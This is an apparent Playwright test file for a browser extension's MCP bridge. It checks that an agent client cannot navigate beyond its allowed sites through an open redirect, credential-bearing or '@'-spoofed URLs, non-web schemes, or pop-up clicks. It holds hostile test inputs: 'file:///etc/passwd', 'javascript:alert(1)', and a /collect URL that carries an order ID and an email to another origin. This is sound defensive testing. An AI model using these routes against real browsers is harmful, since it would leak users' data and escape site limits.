import type { Page } from '@playwright/test';
import { test, expect } from '../harness/fixtures.ts';
import { connectStdio, launchWithBridge, openSidePanel, pairClient, payloadOf, type BridgeBrowser, type McpClient, type ToolReply } from '../harness/bridge-harness.ts';
import { startOtherOrigin, type OtherOrigin } from '../harness/nav-other-origin.ts';
import { approvalOf, control, data, type Card } from '../harness/pipeline-helpers.ts';

/**
 * An MCP client trying to take the browser off the sites it may use with `steward_open`: through
 * the lab's open redirect (`/leave?to=` answers 302 to any URL), with a URL carrying credentials,
 * and with non-web schemes. Ground truth is the other origin's own request log: it must receive
 * nothing, not even the first request of the redirected navigation.
 */

const codeOf = (reply: ToolReply): string | undefined => (reply.structured?.error as { code?: string } | undefined)?.code;

test.describe.serial('steward_open stays on the allowed sites', () => {
  let world: BridgeBrowser;
  let panel: Page;
  let client: McpClient;
  let other: OtherOrigin;

  test.beforeAll(async ({ sites }) => {
    other = await startOtherOrigin();
    world = await launchWithBridge({ nativeWebMcp: false, allowSites: [sites.urls.lab, sites.urls.shop] });
    panel = await openSidePanel(world);
    client = await connectStdio(world, 'v2', 'Curious Agent');
    await pairClient(client, panel, { sites: [new URL(sites.urls.lab).origin] });
  });
  test.afterAll(async () => {
    await client?.close().catch(() => undefined);
    await world?.close();
    await other?.stop();
  });

  test('an open redirect on an allowed site: SITE_NOT_ALLOWED, and the other origin receives no request; the hop is named where Chrome shows it to Steward', async ({ sites }) => {
    const target = `${other.url}/collect?order=ORD-1024&email=jordan%40example.com`;
    for (const new_tab of [true, false]) {
      const reply = await client.call('steward_open', { url: `${sites.urls.lab}/leave?to=${encodeURIComponent(target)}`, new_tab });
      expect(reply.isError, reply.text).toBe(true);
      expect(codeOf(reply), reply.text).toBe('SITE_NOT_ALLOWED');
      // Steward has no access to the other origin, so Chrome hides the blocked address from it too.
      expect(reply.text).toContain('a site Steward has no access to');
    }
    // The lab did answer the hop (the redirect happened), and still nothing reached the other origin.
    expect(other.received).toEqual([]);
    // The shop is one of the person's sites (Steward sees its addresses) but not this client's: named.
    const shop = new URL(sites.urls.shop).origin;
    const toShop = await client.call('steward_open', { url: `${sites.urls.lab}/leave?to=${encodeURIComponent(`${shop}/orders/ORD-1024`)}`, new_tab: true });
    expect(codeOf(toShop), toShop.text).toBe('SITE_NOT_ALLOWED');
    expect(toShop.text).toContain(shop);
  });

  test('the allowed site itself still opens, with its own same-origin redirects', async ({ sites }) => {
    const reply = await client.call('steward_open', { url: `${sites.urls.lab}/leave?to=${encodeURIComponent(`${sites.urls.lab}/partners`)}`, new_tab: true });
    expect(reply.isError, reply.text).toBe(false);
    expect((payloadOf(reply) as { tab: { url: string } }).tab.url).toBe(`${sites.urls.lab}/partners`);
  });

  test('a URL with a user name and password, or a non-web scheme, is refused before anything loads', async ({ sites }) => {
    const lab = new URL(sites.urls.lab);
    const tabsBefore = world.context.pages().length;
    for (const url of [`http://user:pw@${lab.host}/partners`, `http://${lab.host}@127.0.0.1:${new URL(other.url).port}/phish`]) {
      const reply = await client.call('steward_open', { url });
      expect(reply.isError, reply.text).toBe(true);
      expect(codeOf(reply), reply.text).toBe('INVALID_INPUT');
      expect(reply.text).toMatch(/user name or password/);
    }
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', `data:text/html,<a href="${other.url}">x</a>`]) {
      const reply = await client.call('steward_open', { url });
      expect(reply.isError, `${url}: ${reply.text}`).toBe(true);
    }
    expect(world.context.pages().length).toBe(tabsBefore);
    expect(other.received).toEqual([]);
  });
});

/**
 * The same through a click: an MCP client with every scope, acting in its own background tab on an
 * allowed lab page (sites/lab/new-tabs.ts), clicks a control that opens a NEW tab towards another
 * origin with the order and e-mail in its URL. Where the click needs the person, the person
 * approves it: even approved, the new tab's request never reaches the other origin.
 */
test.describe.serial('a click that opens a new tab stays on the allowed sites', () => {
  let world: BridgeBrowser;
  let panel: Page;
  let client: McpClient;
  let other: OtherOrigin;

  test.beforeAll(async ({ sites }) => {
    other = await startOtherOrigin();
    world = await launchWithBridge({ nativeWebMcp: false, allowSites: [sites.urls.lab] });
    panel = await openSidePanel(world);
    client = await connectStdio(world, 'v2', 'Pop-up Agent');
    await pairClient(client, panel, { sites: [new URL(sites.urls.lab).origin], scopes: '*:*' });
  });
  test.afterAll(async () => {
    await client?.close().catch(() => undefined);
    await world?.close();
    await other?.stop();
  });

  /** Clicks the control named `name` on a fresh copy of the page; the person approves any card it raises. */
  async function click(lab: string, role: string, name: string, key: string): Promise<ToolReply> {
    const opened = await client.call('steward_open', { url: `${lab}/new-tabs?to=${encodeURIComponent(`${other.url}/collect?order=ORD-1024&email=jordan%40example.com`)}`, new_tab: true });
    expect(opened.isError, opened.text).toBe(false);
    const tabId = (payloadOf(opened) as { tab: { tab_id: number } }).tab.tab_id;
    const observed = await client.call('steward_observe', { tab_id: tabId });
    // A control that follows one of the same role on its line leaves its role out (`e5 button "A" · e6 "B"`).
    const ref = (new RegExp(`(\\S+) ${role}~? "${name}"`).exec(observed.text) ?? new RegExp(`· (\\S+) "${name}"`).exec(observed.text))?.[1];
    expect(ref, observed.text.slice(0, 2000)).toBeTruthy();
    const resource = (payloadOf(observed) as { summary: { resource: { type: string; id: string } } }).summary.resource;
    const call = { tab_id: tabId, action: 'dom.click', resource, input: { ref }, idempotency_key: key };
    let reply = await client.call('steward_execute', call);
    if (codeOf(reply) === 'APPROVAL_REQUIRED') {
      const { pending } = await data<{ pending: Card[] }>(control(panel, { type: 'panel/approvals' }));
      for (const card of pending) await data(control(panel, approvalOf(card)));
    }
    // Asked again with the same key, as the answer says, until the approved click has run.
    await expect
      .poll(async () => {
        reply = await client.call('steward_execute', call);
        return codeOf(reply) ?? 'answered';
      })
      .not.toMatch(/^(APPROVAL_REQUIRED|IN_PROGRESS)$/);
    return reply;
  }

  for (const [how, role, name] of [
    ['a button whose handler calls window.open', 'button', 'Open the partner window'],
    ['a link with target="_blank"', 'link', 'Open the partner offer'],
  ] as const) {
    test(`${how}: the other origin receives no request, and the client is told the step was stopped or its outcome unknown`, async ({ sites }) => {
      const reply = await click(sites.urls.lab, role, name, `popup-${role}`);
      expect(reply.isError, reply.text).toBe(true);
      // Chrome shows Steward nothing of a tab on a site it has no access to (per-site access), not
      // always even its error page: the client is told the step was stopped, or that its outcome is
      // unknown — never that it worked. A tab Steward could see on the error page is closed.
      expect(reply.text).toMatch(/SITE_NOT_ALLOWED|Outcome unknown/);
      if (codeOf(reply) === 'SITE_NOT_ALLOWED') expect(reply.text).toContain('opened a new tab to another site');
      expect(other.received).toEqual([]);
    });
  }
});
